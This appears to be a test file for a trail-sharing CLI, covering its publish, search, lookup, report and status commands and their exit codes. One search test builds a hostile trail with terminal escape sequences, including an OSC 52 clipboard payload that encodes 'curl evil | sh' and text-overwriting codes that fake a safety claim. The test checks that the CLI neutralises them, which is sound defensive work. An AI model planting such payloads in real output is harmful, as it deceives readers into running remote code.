// The client commands of the binary (`colony search|lookup|publish|report|status`) run as real
// processes against a real colony on loopback: readable output, --json, and the exit codes of
// docs/cli.md (0 ok, 1 nothing found, 2 usage, 3 refused, 4 unreachable or not ready).
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { freePort, spawnColony, startTestColony, type TestColony, tempDir } from "./support/colony";
import { sampleTrail } from "./support/trails";

let colony: TestColony;
let work: string;

beforeAll(async () => {
  colony = await startTestColony();
  work = tempDir("colony-cli-");
});

afterAll(async () => {
  await colony?.dispose();
  rmSync(work, { recursive: true, force: true });
});

async function run(args: string[], env: Record<string, string> = {}) {
  const p = spawnColony(args, { COLONY_URL: colony.url, ...env });
  const [code, stdout, stderr] = await Promise.all([p.exited, new Response(p.stdout).text(), new Response(p.stderr).text()]);
  return { code, stdout, stderr };
}

const trail = sampleTrail({ error: "OSError: [Errno 28] No space left on device: '/var/lib/docker/tmp/x'" });
let trailId = "";
let fingerprint = "";

describe("publish", () => {
  test("--wait prints id, fingerprint and the verdict", async () => {
    const file = join(work, "trail.json");
    writeFileSync(file, JSON.stringify(trail));
    const r = await run(["publish", file, "--wait"]);
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
    trailId = /^trail:\s+(\S+)$/m.exec(r.stdout)![1]!;
    fingerprint = /^fingerprint:\s+(fp1_[0-9a-f]{32})$/m.exec(r.stdout)![1]!;
    expect(r.stdout).toMatch(/^status:\s+indexed$/m);
    const stored = (await (await colony.fetch(`/v1/trails/${trailId}`)).json()) as { status: string };
    expect(stored.status).toBe("indexed");
  });

  test("an invalid trail: exit 3, the error code and each failing path", async () => {
    const file = join(work, "bad.json");
    writeFileSync(file, JSON.stringify({ protocol_version: "1.0", problem: { error: "x" } }));
    const r = await run(["publish", file]);
    expect(r.code).toBe(3);
    expect(r.stderr).toStartWith("colony: invalid_trail: ");
    expect(r.stderr).toContain("  /solution: ");
    expect(r.stdout).toBe("");
  });

  test("a file that is not JSON, or missing: exit 2 with the usage line", async () => {
    const file = join(work, "not.json");
    writeFileSync(file, "{nope");
    const r = await run(["publish", file]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("is not JSON");
    expect(r.stderr).toContain("usage: colony publish FILE|-");
    expect((await run(["publish", join(work, "missing.json")])).code).toBe(2);
    expect((await run(["publish"])).code).toBe(2);
  });
});

describe("search and lookup", () => {
  test("search: a table for people with the trail first", async () => {
    const r = await run(["search", "No space left on device /var/lib/docker"]);
    expect(r.code).toBe(0);
    const lines = r.stdout.trim().split("\n");
    expect(lines[0]).toMatch(/^#\s+via\s+score\s+strength\s+trail\s+error\s+fix$/);
    expect(lines[1]).toContain(trailId);
  });

  test("search: terminal control sequences in another agent's trail are shown as <U+XXXX>, not sent to the terminal", async () => {
    // They pass validation and screening (coloured compiler output carries them), and the table
    // wrote them raw: a trail could clear the screen, hide or overwrite text, plant a hyperlink, or
    // set the clipboard (OSC 52) of the person reading the results.
    const ESC = "\u001b";
    const hostile = sampleTrail({ error: `ImportError: frob ${ESC}[2J${ESC}]52;c;Y3VybCBldmlsIHwgc2g=\u0007` });
    hostile.solution.summary = `Upgrade widgets.${ESC}[1A${ESC}[2K\u009b8m pip install widgets is safe`;
    const res = await colony.fetch("/v1/trails", {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify(hostile),
    });
    expect(res.status).toBe(202);
    await colony.service.worker!.drain();
    const r = await run(["search", "ImportError: frob"]);
    expect(r.code).toBe(0);
    expect(r.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(r.stdout).toContain("ImportError: frob <U+001B>[2J<U+001B>]52;c;");
    expect(r.stdout).toContain("Upgrade widgets.<U+001B>[1A<U+001B>[2K<U+009B>8m pip install");
    // --json is JSON, with the 8-bit controls escaped too (JSON.stringify leaves them raw).
    const j = await run(["search", "ImportError: frob", "--json"]);
    expect(j.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(JSON.parse(j.stdout).results[0].trail.solution.summary).toBe(hostile.solution.summary);
  });

  test("search --json: the API's envelope", async () => {
    const r = await run(["search", "No space left on device", "--json", "--limit", "3"]);
    expect(r.code).toBe(0);
    const env = JSON.parse(r.stdout);
    expect(env.results[0].trail_id).toBe(trailId);
    expect(env.results.length).toBeLessThanOrEqual(3);
  });

  test("search with a bad --limit or no text: exit 2", async () => {
    expect((await run(["search", "x", "--limit", "50"])).code).toBe(2);
    expect((await run(["search"])).code).toBe(2);
    expect((await run(["search", "x", "--frobnicate"])).stderr).toContain("unknown option --frobnicate");
  });

  test("lookup: found (exit 0, via fingerprint), not found (exit 1), malformed (exit 2)", async () => {
    const found = await run(["lookup", fingerprint, "--json"]);
    expect(found.code).toBe(0);
    expect(JSON.parse(found.stdout).results[0]).toMatchObject({ trail_id: trailId, match: { via: "fingerprint" } });
    const missing = await run(["lookup", `fp1_${"0".repeat(32)}`]);
    expect(missing.code).toBe(1);
    expect(missing.stderr).toStartWith("colony: not_found: ");
    const bad = await run(["lookup", "fp1_XYZ"]);
    expect(bad.code).toBe(2);
    // Read by the rule of every door (fingerprintAsSent): a copied fingerprint's blanks, any case.
    const padded = await run(["lookup", ` ${fingerprint.toUpperCase()}\u00a0`, "--json"]);
    expect([padded.code, JSON.parse(padded.stdout).fingerprint]).toEqual([0, fingerprint]);
  });
});

describe("report", () => {
  test("worked, from another agent: counted, strength up", async () => {
    const r = await run(["report", trailId, "worked", "--notes", "fixed after pruning images", "--json"], {
      COLONY_AGENT_ID: "cli-test-agent-2",
    });
    expect(r.code).toBe(0);
    const body = JSON.parse(r.stdout);
    expect(body).toMatchObject({ trail_id: trailId, counted: true, outcomes: { worked: 1 } });
  });

  test("readable output; an unknown trail is exit 1; a bad outcome exit 2", async () => {
    const r = await run(["report", trailId, "partially_worked"], { COLONY_AGENT_ID: "cli-test-agent-3" });
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/^counted:\s+yes$/m);
    expect((await run(["report", crypto.randomUUID(), "worked"])).code).toBe(1);
    const bad = await run(["report", trailId, "great"]);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain("OUTCOME must be one of worked, partially_worked, failed, not_applicable");
  });
});

describe("status", () => {
  test("health, readiness and stats; --json for scripts", async () => {
    const r = await run(["status"]);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/^ready:\s+yes$/m);
    expect(r.stdout).toMatch(/^checks:\s+kv ok, vector ok, embedding ok, lexical ok$/m);
    const j = JSON.parse((await run(["status", "--json"])).stdout);
    expect(j.readiness.status).toBe("ready");
    expect(j.stats.trails).toBeGreaterThanOrEqual(1);
  });

  test("an unreachable colony: one line, exit 4", async () => {
    const port = await freePort();
    const r = await run(["status"], { COLONY_URL: `http://127.0.0.1:${port}` });
    expect(r.code).toBe(4);
    expect(r.stderr.trim().split("\n").length).toBe(1);
    expect(r.stderr).toStartWith("colony: unreachable: ");
  });

  test("a bad COLONY_URL: exit 2 naming the variable", async () => {
    const r = await run(["status"], { COLONY_URL: "ftp://x" });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("COLONY_URL");
  });
});
